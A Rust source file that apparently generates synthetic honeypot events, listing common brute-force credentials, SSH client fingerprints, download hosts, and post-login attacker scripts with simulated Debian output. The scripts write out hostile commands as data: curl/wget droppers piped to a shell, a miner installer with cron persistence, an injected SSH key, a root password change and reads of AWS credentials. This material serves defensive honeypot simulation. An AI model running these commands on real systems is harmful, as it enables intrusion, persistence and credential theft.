//! The vocabulary of `miragepot gen-events`: credentials, SSH clients and the command scripts
//! bots and people run after a login, shaped on public honeypot logs (Cowrie/DShield
//! top lists), with the output a Debian 12 box prints for each command.

/// Usernames, most tried first (the generator favours the head of the list).
pub const USERNAMES: &[&str] = &[
    "root",
    "admin",
    "user",
    "ubuntu",
    "test",
    "oracle",
    "postgres",
    "pi",
    "git",
    "ftpuser",
    "support",
    "guest",
    "debian",
    "centos",
    "hadoop",
    "mysql",
    "nagios",
    "deploy",
    "dev",
    "jenkins",
    "minecraft",
    "steam",
    "www-data",
    "tomcat",
    "ansible",
    "elastic",
    "es",
    "user1",
    "administrator",
    "operator",
    "sysadmin",
    "teamspeak",
    "zabbix",
    "redis",
    "docker",
    "kafka",
    "odoo",
    "sol",
    "solana",
    "validator",
];

/// Passwords, most tried first.
pub const PASSWORDS: &[&str] = &[
    "123456",
    "admin",
    "password",
    "root",
    "12345678",
    "123456789",
    "1234",
    "12345",
    "qwerty",
    "1qaz2wsx",
    "P@ssw0rd",
    "admin123",
    "root123",
    "toor",
    "111111",
    "raspberry",
    "ubuntu",
    "test",
    "1234567890",
    "changeme",
    "abc123",
    "passw0rd",
    "Passw0rd!",
    "qwerty123",
    "default",
    "letmein",
    "welcome",
    "alpine",
    "system",
    "Aa123456",
    "huawei@123",
    "Huawei12#$",
    "zte521",
    "vizxv",
    "xc3511",
    "hi3518",
    "user",
    "oracle",
    "postgres",
    "git",
];

/// SSH client version strings and the HASSH of each client's key exchange offer, as
/// measured from the real clients (Debian 12 builds; paramiko 1.16 from Salesforce's hasshGen).
pub const CLIENTS: &[(&str, &str)] = &[
    ("SSH-2.0-Go", "4e066189c3bbeec38c99b1855113733a"),
    ("SSH-2.0-libssh2_1.10.0", "b4b8ae3d7241d2c1dc54b4df7e8c19d1"),
    ("SSH-2.0-paramiko_5.1.0", "4c94058d5e9e31659879f79fd5b46084"),
    (
        "SSH-2.0-PuTTY_Release_0.78",
        "10d5550e526d158ce7ad2f18cf621f66",
    ),
    (
        "SSH-2.0-AsyncSSH_2.24.1",
        "c70169683f416ecb6afc5aed972ec23c",
    ),
    (
        "SSH-2.0-paramiko_1.16.0",
        "c6f5e6d54285a11b9f02fef7fc77bd6f",
    ),
    (
        "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10",
        "472b5de333ad665af5cbf10ff892c4df",
    ),
];

/// Hosts that scripts download from (`{host}` in a script line).
pub const HOSTS: &[&str] = &[
    "45.95.147.236",
    "94.156.8.244",
    "185.224.128.34",
    "193.42.33.14",
    "87.121.112.62",
    "176.65.148.10",
    "103.149.87.69",
    "2.58.113.202",
    "dl.update-mirror.net",
    "cdn.xmr-pool.top",
    "repo.kernel-patch.org",
    "bins.botnet-c2.cc",
];

/// One script: what a bot (or person) types after a login (recon, an SSH key, a dropper, a
/// miner, a router probe, a password change, a person looking around). `{host}` is the campaign's
/// download host; `{n}` a per-session number.
pub struct Script {
    /// The command lines in order.
    pub lines: &'static [&'static str],
    /// Whether it is typed at a prompt (a pty and a shell) rather than sent as exec lines.
    pub interactive: bool,
}

/// The scripts, most common first.
pub const SCRIPTS: &[Script] = &[
    Script {
        lines: &[
            "uname -s -v -n -r -m",
            "cat /proc/cpuinfo | grep name | wc -l",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "ls -lh $(which ls)",
            "crontab -l",
            "w",
            "uname -m",
            "whoami",
            "lscpu | grep Model",
            "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
        ],
        interactive: false,
    },
    Script {
        lines: &[
            "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
        ],
        interactive: false,
    },
    Script {
        lines: &[
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{host}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
            "cd /tmp; curl -O http://{host}/x86_64; chmod +x x86_64; ./x86_64 ssh.{n}",
        ],
        interactive: false,
    },
    Script {
        lines: &[
            "nproc",
            "cat /proc/cpuinfo | grep 'model name' | head -1",
            "curl -s -L http://{host}/xmrig.sh | bash -s",
            "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://{host}/c.sh | sh\") | crontab -",
        ],
        interactive: false,
    },
    Script {
        lines: &[
            "/ip cloud print",
            "ifconfig",
            "uname -a",
            "cat /proc/uptime",
        ],
        interactive: false,
    },
    Script {
        lines: &[
            "echo \"root:Xk{n}pQ2z\" | chpasswd | bash",
            "uname -a",
            "echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\"",
        ],
        interactive: false,
    },
    Script {
        lines: &[
            "id",
            "ls -la",
            "cat /etc/passwd",
            "ps aux | head",
            "cat ~/.aws/credentials",
            "history | tail -20",
            "netstat -tulpn",
            "wget http://{host}/tools.tar.gz -O /tmp/.t.tgz",
            "exit",
        ],
        interactive: true,
    },
];

/// What Debian 12 prints for a command line of the scripts (empty when it prints nothing).
pub fn output_of(line: &str) -> &'static str {
    match line {
        "uname -s -v -n -r -m" => {
            "Linux srv-01 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64\n"
        }
        "uname -a" => {
            "Linux srv-01 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n"
        }
        "uname -m" => "x86_64\n",
        "whoami" => "root\n",
        "id" => "uid=0(root) gid=0(root) groups=0(root)\n",
        "nproc" | "cat /proc/cpuinfo | grep name | wc -l" => "4\n",
        "cat /proc/cpuinfo | grep 'model name' | head -1" | "lscpu | grep Model" => {
            "model name\t: Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\n"
        }
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'" => "7941 612 6411 1 917 7076\n",
        "ls -lh $(which ls)" => "-rwxr-xr-x 1 root root 139K Sep 20  2022 /usr/bin/ls\n",
        "crontab -l" => "no crontab for root\n",
        "w" => concat!(
            " 10:14:02 up 41 days,  3:12,  1 user,  load average: 0.08, 0.03, 0.01\n",
            "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n",
            "root     pts/0    203.0.113.9      10:13    0.00s  0.01s  0.00s w\n"
        ),
        "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'" => "79G\n",
        "cat /proc/uptime" => "3553920.41 14180502.88\n",
        "/ip cloud print" => "-bash: /ip: No such file or directory\n",
        "ifconfig" => "-bash: ifconfig: command not found\n",
        "cd ~; chattr -ia .ssh; lockr -ia .ssh" => "-bash: lockr: command not found\n",
        "ls -la" => concat!(
            "total 28\n",
            "drwx------  4 root root 4096 Nov  2 09:41 .\n",
            "drwxr-xr-x 18 root root 4096 Mar 14  2024 ..\n",
            "drwxr-xr-x  2 root root 4096 Nov  2 09:41 .aws\n",
            "-rw-------  1 root root  612 Nov  2 09:41 .bash_history\n",
            "-rw-r--r--  1 root root  571 Apr 10  2021 .bashrc\n",
            "-rw-r--r--  1 root root  161 Jul  9  2019 .profile\n",
            "drwx------  2 root root 4096 Mar 14  2024 .ssh\n"
        ),
        "cat /etc/passwd" => concat!(
            "root:x:0:0:root:/root:/bin/bash\n",
            "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
            "bin:x:2:2:bin:/bin:/usr/sbin/nologin\n",
            "sys:x:3:3:sys:/dev:/usr/sbin/nologin\n",
            "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
            "sshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n",
            "admin:x:1000:1000:admin,,,:/home/admin:/bin/bash\n"
        ),
        "ps aux | head" => concat!(
            "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n",
            "root           1  0.0  0.1 167744 11904 ?        Ss   Oct12   0:41 /sbin/init\n",
            "root         412  0.0  0.0  15432  8872 ?        Ss   Oct12   0:00 sshd: /usr/sbin/sshd -D\n",
            "root        1190  0.0  0.0   7264  3712 pts/0    R+   10:14   0:00 ps aux\n"
        ),
        "netstat -tulpn" => "-bash: netstat: command not found\n",
        _ => "",
    }
}
